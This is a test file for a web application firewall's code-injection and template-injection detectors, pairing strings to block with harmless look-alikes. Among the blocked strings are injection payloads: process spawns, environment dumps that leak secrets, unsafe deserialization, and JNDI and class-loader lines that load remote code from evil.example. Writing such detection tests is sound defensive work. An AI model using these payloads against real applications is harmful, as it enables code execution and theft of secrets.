// Ways out of a program that had no name here: other run-times, classes of Windows, words without letters.
import { test } from 'node:test';
import { detectCode } from '../../../../src/guard/decide/waf/detect/code/code.ts';
import { detectTemplate } from '../../../../src/guard/decide/waf/detect/template/template.ts';
import { blocks, passes } from '../judged.ts';

test('programs that Deno, Bun and the classes of Windows start are attacks', () => {
  blocks(detectCode, [
    'Deno.run({cmd:["id"]})',
    'new Deno.Command("id").output()',
    'Bun.spawnSync(["id"])',
    'new ActiveXObject("WScript.Shell").Run("calc")',
    "new ActiveXObject('Scripting.FileSystemObject')",
    'new javax.script.ScriptEngineManager().getEngineByExtension("js").eval("1")',
  ]);
  passes(detectCode, [
    'Deno.serve(handler)',
    'Bun.serve({ port: 3000 })',
    'new ActiveXObject("Microsoft.XMLHTTP")',
    'spawn(point) and run(fast)',
  ]);
});

test('a string that is evaluated and holds a call is an attack, the name of a field is none', () => {
  blocks(detectCode, ['Eval("System.Environment.Exit(0)")', "Eval('Shell(1)')"]);
  passes(detectCode, [
    '<%# Eval("Name") %>',
    'Eval("Price", "{0:c}")',
    '<%# Eval("Price", "{0:c} (net)") %>',
  ]);
});

test('a bare word to system() is an attack behind what ends a statement', () => {
  blocks(detectCode, ['use POSIX;system(id)', ';system(id);', "');system(ls);//"]);
  passes(detectCode, ['the system(s) we use', 'system(linux)', 'use POSIX qw(floor);', ';init(now)']);
});

test('statements of PHP without a letter are an attack', () => {
  blocks(detectCode, [
    `$_=[];$_=@"$_";$_=$_['!'=='@'];`,
    '<?=$_=[];$_="$_";$__=$_;',
    "$__=('>>'^'@@');$_=$__;",
  ]);
  passes(detectCode, ['$_ = "a"; $_ = "b";', '$_++; $_++;', '$_; $__', '$5; $6;', '$_=[1];$_=[2];']);
});

test('a whole statement that answers with the environment is an attack', () => {
  blocks(detectCode, [
    'res.end(process.env.SECRET)',
    "');res.json(process.env)//",
    'ctx.body=process.env.KEY',
  ]);
  passes(detectCode, [
    'res.json({ env: process.env.NODE_ENV })',
    'res.send(process.env.NODE_ENV)',
    'res.json(process.env.npm_package_version)',
    'app.listen(process.env.PORT)',
    'app.get("/v", (req, res) => res.send(process.env.VERSION))',
  ]);
});

test('what a class does when it is loaded is an attack where it starts a program', () => {
  blocks(detectCode, [
    'dest = y() - (500); // * / public class Double { public static double NaN = 0; static { try { java.lang.Runtime.getRuntime().exec("id"); } catch(Exception e) {} } } /**',
    'class A { static { new ProcessBuilder("id").start(); } }',
  ]);
  passes(detectCode, [
    'class A { static { System.loadLibrary("native"); } }',
    'public class A { static int n = 0; static { n = Runtime.getRuntime().availableProcessors(); } }',
  ]);
});

test('what Perl runs in a reference, what Dust evaluates and what a Lisp loads are attacks', () => {
  blocks(detectCode, [
    '(metadata "\\c${`id`};")',
    '(metadata "\\c${system(q(id))};")',
    "(require 'clojure.java.shell)",
    "(use '[clojure.java.shell :only [sh]])",
    'Sys.getenv("SECRET")',
  ]);
  blocks(detectTemplate, ['{@if cond="process.exit()"}{/if}']);
  passes(detectCode, ["(require 'clojure.string)", '(metadata "\\copyright ${year}")', 'Sys.time()']);
  passes(detectTemplate, [
    `{@if cond="'{x}'.length > 3"}a{/if}`,
    '{@math key="1" method="add" operand="2"/}',
  ]);
});

test('what a program knows of its surroundings is an attack as the whole value, in any language that evaluates', () => {
  blocks(detectCode, [
    'ENV["SECRET"]',
    "os.environ['SECRET']",
    'Deno.env.toObject()',
    'System.getenv()',
    'Environment.GetEnvironmentVariable("SECRET")',
    'var_dump(getenv());',
    '(System/getenv "SECRET")',
    'process.report.getReport()',
  ]);
  passes(detectCode, [
    'os.environ',
    'ENV["name"]',
    'key = ENV["API_KEY"] or raise',
    'how does os.environ["PATH"] differ from os.getenv in python?',
    'report.getReport()',
    'env["PATH"]',
  ]);
});

test('processes, look-ups and classes of the libraries of Python, Java and .NET are attacks', () => {
  blocks(detectCode, [
    'asyncio.create_subprocess_shell("id")',
    'ctypes.CDLL(None).system(b"id")',
    'builtins.exec("x")',
    'platform.popen("id")',
    'new GroovyShell().evaluate("1")',
    'new javax.naming.InitialContext().lookup("rmi://evil.example/x")',
    'new URLClassLoader(new URL[]{new URL("http://evil.example/")}).loadClass("X")',
    'jdk.jshell.JShell.create().eval("1")',
    'Type.GetType("System.Diagnostics.Process")',
    'mail("a@b.c","x","y","","-X/tmp/x.php");',
    'pickle.loads(base64.b64decode("gASV"))',
    'Marshal.load(Base64.decode64("BAhv"))',
    'Marshal.load(Base64.decode64(params[:x]))',
    'unserialize(base64_decode($_COOKIE["x"]))',
    '(eval \'(system "id"))',
    '(load-file "http://evil.example/x.clj")',
  ]);
  passes(detectCode, [
    'table.lookup("http://example.com/x")',
    'ctx.lookup("java:comp/env/jdbc/shop")',
    'parser.evaluate("1 + 1")',
    'Type.GetType("Shop.Orders.Order")',
    'mail("a@b.c","x","y")',
    'pickle.loads(data)',
    'JSON.load(Base64.decode64("eyJh"))',
    "(eval 'x)",
    'asyncio.create_task(main())',
  ]);
});
